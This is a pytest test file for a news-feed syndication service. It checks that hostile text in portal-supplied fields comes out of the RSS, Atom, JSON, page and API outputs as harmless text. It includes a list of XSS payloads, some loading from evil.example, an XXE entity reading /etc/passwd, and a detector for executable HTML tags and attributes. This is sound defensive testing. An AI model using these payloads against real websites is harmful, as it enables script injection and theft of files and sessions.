"""Invariant 9: nothing that a portal writes is executed by who reads it."""

import re
from html.parser import HTMLParser
from typing import Any

import feedparser
import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from services.syndicator import safe
from services.syndicator.api_shapes import article_shape
from services.syndicator.entries import Feed
from services.syndicator.feeds import page_of
from services.syndicator.formats import FORMATS
from services.syndicator.page import PageRequest, front_page
from services.syndicator.requests import FeedRequest
from shared.article import Image
from shared.storage.reading import Slice
from tests.support.archive import article_record, source_ref, story_record
from tests.unit.feed_rules import atom_complaints, rss_complaints

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<a href='javascript:alert(1)'>đọc</a>",
    "<a href='jav&#x09;ascript:alert(1)'>đọc</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>đọc</a>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<form action='https://evil.example/'><button>gửi</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "</title></style></textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7 * 7 }}{% raw %}",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "\x00\x01\x0b\x1f\ufffe\uffff<b\x00>",
    "tin \u202ecod.exe\u202c",
    "🇻🇳 tin 👩‍👩‍👧 𠮷",
    "x" * 200_000,
    "<" * 5_000,
]


def hostile_feed(payload: str) -> Feed:
    """The payload in every field that a portal has a hand in."""
    source = source_ref(name=payload, url=payload, portal=payload, category=payload, syndicate="full")
    lead = article_record(
        "1",
        source=source,
        url=payload,
        guid=payload,
        title=payload,
        summary=payload,
        content_html=payload,
        content_text=payload,
        language=payload,
        authors=[payload],
        categories=[payload],
        images=[Image(url=payload, caption=payload)],
    )
    copy = article_record("1", source=source_ref("b.gov.vn", name=payload), url=f"https://b.gov.vn/{payload}")
    page = Slice(1, [story_record(lead, copy)], {lead.id: lead})
    return page_of(page, FeedRequest("json"), None, "https://tin.example.vn")


class Danger(HTMLParser):
    """What in an HTML text could run or load something."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "style", "iframe", "object", "embed", "base", "meta", "form", "svg", "math", "link"}:
            self.found.append(tag)
        for name, value in attrs:
            scheme = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(name)
            if scheme.startswith(("javascript:", "data:", "vbscript:")):
                self.found.append(f"{name}={value}")


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: payload[:30].encode("unicode_escape").decode())
def test_what_readers_take_for_html_is_harmless(payload: str) -> None:
    shown = hostile_feed(payload)
    rss = etree.fromstring(FORMATS["rss"].render(shown))
    item = rss[0].find("item")
    assert item is not None
    # Readers differ in which of these they take for HTML; none of them may do harm as HTML.
    for name in ("title", "description", "category", "{*}encoded"):
        for element in item.iterfind(name):
            assert Danger(element.text or "").found == [], name
    (entry,) = etree.fromstring(FORMATS["atom"].render(shown)).iterfind("{*}entry")
    for content in entry.iterfind("{*}content[@type='html']"):
        assert Danger(content.text or "").found == []
    assert entry.findtext("{*}title")
    (read,) = msgspec.json.decode(FORMATS["json"].render(shown))["items"]
    assert Danger(read.get("content_html") or "").found == []


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: payload[:30].encode("unicode_escape").decode())
def test_hostile_feeds_are_valid_feeds_without_other_addresses_than_web_ones(payload: str) -> None:
    shown = hostile_feed(payload)
    assert rss_complaints(FORMATS["rss"].render(shown)) == []
    assert atom_complaints(FORMATS["atom"].render(shown)) == []
    read = feedparser.parse(FORMATS["atom"].render(shown))
    assert not read.bozo
    for link in read.entries[0].get("links", []):
        assert link.href.startswith(("http://", "https://"))


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: payload[:30].encode("unicode_escape").decode())
def test_the_page_and_the_api_run_nothing_either(payload: str) -> None:
    lead = article_record("1", url=payload, title=payload, summary=payload, content_html=payload, authors=[payload])
    story = story_record(lead)
    page = front_page(Slice(1, [story], {lead.id: lead}), PageRequest()).decode()
    body = page[page.index("<body>") :]
    # Our own search form is the only thing on the page that does anything.
    assert Danger(body).found == ["form"]
    shape = article_shape(lead, story)
    assert Danger(shape.content_html).found == []
    assert shape.url is None


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("https://haiphong.gov.vn/tin/1?a=b&c=d#e", "https://haiphong.gov.vn/tin/1?a=b&c=d#e"),
        ("HTTP://HaiPhong.gov.vn:8080/Tin", "http://haiphong.gov.vn:8080/Tin"),
        ("https://haiphong.gov.vn/tin tức/ngày 1", "https://haiphong.gov.vn/tin%20t%E1%BB%A9c/ng%C3%A0y%201"),
        ("https://haiphong.gov.vn/100%/a%20b", "https://haiphong.gov.vn/100%25/a%20b"),
        ("https://hảiphòng.vn/", "https://xn--hiphng-6wa8191d.vn/"),
        ("https://user:secret@haiphong.gov.vn/", "https://haiphong.gov.vn/"),
        ("https://[2001:db8::1]:8080/x", "https://[2001:db8::1]:8080/x"),
        ("https://haiphong.gov.vn/#/tin/5", "https://haiphong.gov.vn/#/tin/5"),
        ("javascript:alert(1)", None),
        ("java\nscript:alert(1)", None),
        ("//haiphong.gov.vn/", None),
        ("/tin/1", None),
        ("https://", None),
        ("https://ha i.vn/", None),
        ("https://[::1/", None),
        ("https://a.vn:99999/", None),
        ("file:///etc/passwd", None),
        ("", None),
    ],
)
def test_only_web_addresses_leave(given: str, expected: str | None) -> None:
    assert safe.http_url(given) == expected


@settings(deadline=None)
@given(st.text())
def test_any_text_makes_a_well_formed_feed(payload: str) -> None:
    shown = hostile_feed(payload)
    assert rss_complaints(FORMATS["rss"].render(shown)) == []
    assert atom_complaints(FORMATS["atom"].render(shown)) == []
    decoded: Any = msgspec.json.decode(FORMATS["json"].render(shown))
    assert decoded["items"][0]["title"]


@settings(deadline=None)
@given(st.text())
def test_a_safe_address_stays_as_it_is(payload: str) -> None:
    once = safe.http_url(f"https://example.vn/{payload}")
    if once is not None:
        assert safe.http_url(once) == once
